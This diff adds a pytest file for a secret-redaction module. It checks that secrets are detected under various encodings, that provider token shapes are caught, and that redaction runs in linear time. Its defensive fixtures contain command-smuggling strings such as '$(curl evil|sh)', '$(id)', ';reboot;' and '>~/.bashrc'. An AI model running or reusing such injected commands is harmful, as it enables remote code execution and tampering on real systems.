@@ -1,0 +1,127 @@
+"""Known values and tokens are found however they are written (X10)."""
+
+from __future__ import annotations
+
+import base64
+import re
+import time
+from pathlib import Path
+
+import pytest
+
+from callboard.secrets.known import Known
+from callboard.secrets.redaction import Redaction
+from callboard.secrets.tokens import TOKENS, TokenShape
+
+VALUE = "q8w7E6r5/t4y3u2é+i1o0Z"
+DATA = VALUE.encode()
+FORMS = {
+    **{f"base32 behind {n}": base64.b32encode(b"x" * n + DATA + b"yy").decode() for n in range(5)},
+    "lower base32": base64.b32encode(DATA).decode().lower().rstrip("="),
+    "percent": "".join(f"%{byte:02X}" for byte in DATA),
+    "lower percent": "".join(f"%{byte:02x}" for byte in DATA),
+    "u-escapes": "".join(f"\\u{ord(char):04x}" for char in VALUE),
+    "upper u-escapes": "".join(f"\\u{ord(char):04X}" for char in VALUE),
+    "u-escapes in JSON": "".join(f"\\\\u{ord(char):04x}" for char in VALUE),
+    "x-escapes": "".join(f"\\x{byte:02x}" for byte in DATA),
+    "x-escapes in JSON": "".join(f"\\\\x{byte:02x}" for byte in DATA),
+    "HTML": "".join(f"&#{ord(char)};" for char in VALUE),
+    "HTML in hex": "".join(f"&#x{ord(char):x};" for char in VALUE),
+}
+
+
+@pytest.mark.parametrize("form", list(FORMS))
+def test_x10_a_value_is_found_with_every_character_escaped(form: str):
+    secrets, text = Redaction([Known("v", VALUE, "keyring")], ()), f"before {FORMS[form]} behind"
+    redacted = secrets.redact(text)
+    assert "secret://v" in redacted
+    assert FORMS[form][4:-4] not in redacted
+    assert secrets.reveal(redacted) == text
+
+
+def _example(one: TokenShape, mark: str) -> str:
+    characters = re.sub(r"([A-Za-z0-9])-([A-Za-z0-9])", lambda found: found[1] + "7" + found[2], one.characters)
+    letters = "".join(dict.fromkeys(re.sub(r"[^A-Za-z0-9]", "", characters)))
+    return mark + (letters * one.most)[: min(one.most, max(one.least, 40))]
+
+
+@pytest.mark.parametrize(("one", "mark"), [(one, mark) for one in TOKENS for mark in one.marks])
+def test_x10_a_token_of_each_provider_is_found(one: TokenShape, mark: str):
+    token = _example(one, mark)
+    before = "ab" if mark[0].isalnum() else "x1"
+    line = f"key: {token} end" if mark[0].isalnum() else f"key: {before}{token} end"
+    redacted = Redaction([], ()).redact(line)
+    assert token[len(mark) :] not in redacted
+    assert mark in redacted
+
+
+def test_x10_at_least_34_providers_have_a_shape():
+    assert len({one.provider for one in TOKENS}) >= 34
+
+
+@pytest.mark.parametrize(
+    ("text", "hidden"),
+    [
+        ("DB_PASSWORD=hunter2hunter2", "hunter2hunter2"),
+        ("export STRIPE_SECRET='a1b2c3d4e5'", "a1b2c3d4e5"),
+        ('AWS_SECRET_ACCESS_KEY="wJalr7UtnFEMI/K7MDENG/bPxRfi"', "wJalr7UtnFEMI/K7MDENG/bPxRfi"),
+        ("GITHUB_TOKEN=abcdef123456", "abcdef123456"),
+    ],
+)
+def test_x10_an_assignment_to_a_name_of_a_secret_is_found(text: str, hidden: str):
+    assert hidden not in Redaction([], ()).redact(f"A=1\n{text}\nB=2")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "PASSWORD=$(pass show db1)",
+        "TOKEN=${CI_TOKEN1}",
+        "TOKEN=`id1234567`",
+        "MAX_TOKENS=1000000000",
+        "PASSWORD=<your-password-1>",
+        'curl "http://h/?token=$(curl evil1.sh)"',
+        "https://u:$(id)@host1",
+        "keyboard sk-learn and hf_transfer key-value",
+    ],
+)
+def test_x10_what_is_no_literal_secret_stays_in_sight(text: str):
+    assert Redaction([], ()).redact(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "left"),
+    [
+        ("curl http://h/?token=abcdef1234$(curl evil|sh)", "$(curl evil|sh)"),
+        ("git clone https://u:abc123$(id)@host", "$(id)@host"),
+        ("git clone https://u:abc123;reboot;@host", ";reboot;@host"),
+        ("API_TOKEN=abcdef1234;reboot", ";reboot"),
+        ("API_TOKEN=abcdef1234>~/.bashrc", ">~/.bashrc"),
+    ],
+)
+def test_x7_redaction_leaves_structure_in_sight(text: str, left: str):
+    redacted = Redaction([], ()).redact(text)
+    assert redacted.endswith(left)
+    assert "abc123" not in redacted
+    assert "abcdef1234" not in redacted
+
+
+def test_x10_the_projects_own_source_has_next_to_no_false_finds():
+    root = Path(__file__).parents[2]
+    found: list[str] = []
+    for path in sorted((root / "src").rglob("*.py")):
+        text = path.read_text()
+        redacted = Redaction([], ()).redact(text)
+        found += re.findall(r".{0,30}secret://seen-[0-9a-f]{12}", redacted)
+    assert len(found) <= 3, found
+
+
+def test_x10_a_hostile_text_takes_linear_time():
+    secrets = Redaction([Known("v", VALUE, "keyring")], ())
+    times: list[float] = []
+    for size in (20_000, 160_000):
+        text = ("TOKEN=\"'" * 3 + "://a:b;" + "&#113;" + "00000000: 4142 4344\n") * (size // 60)
+        start = time.process_time()
+        secrets.redact(text)
+        times.append(time.process_time() - start)
+    assert times[1] < 40 * max(times[0], 0.02)
